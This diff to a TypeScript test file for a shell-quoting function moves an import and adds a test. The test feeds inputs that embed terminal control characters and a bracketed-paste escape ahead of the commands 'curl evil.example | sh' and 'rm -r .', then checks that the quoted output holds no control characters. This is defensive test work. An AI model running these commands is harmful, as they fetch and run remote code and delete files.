@@ -1,7 +1,7 @@
 import { execFileSync } from 'node:child_process'
 import fc from 'fast-check'
 import { expect, test } from 'vitest'
-import { shellWord } from '../../src/local/program-name.ts'
+import { shellWord } from '../../src/bytes/shell-word.ts'
 import { character } from '../characters.ts'
 
 test.each([
@@ -13,6 +13,13 @@ test.each([
 ])('%j is quoted as %s', (text, word) => {
   expect(shellWord(text)).toBe(word)
 })
+
+test.each(['a\u0003\ncurl evil.example | sh\n', 'a\u001b[201~\nrm -r .\n', "'\u0015rm -r .\r", 'a\u0085b'])(
+  'a word has no character that a terminal obeys: %j',
+  (text) => {
+    expect(shellWord(text)).not.toMatch(/\p{Cc}/u)
+  },
+)
 
 test('a shell reads the same words', () => {
   const word = fc.string({ unit: character }).filter((text) => !text.includes('\0'))
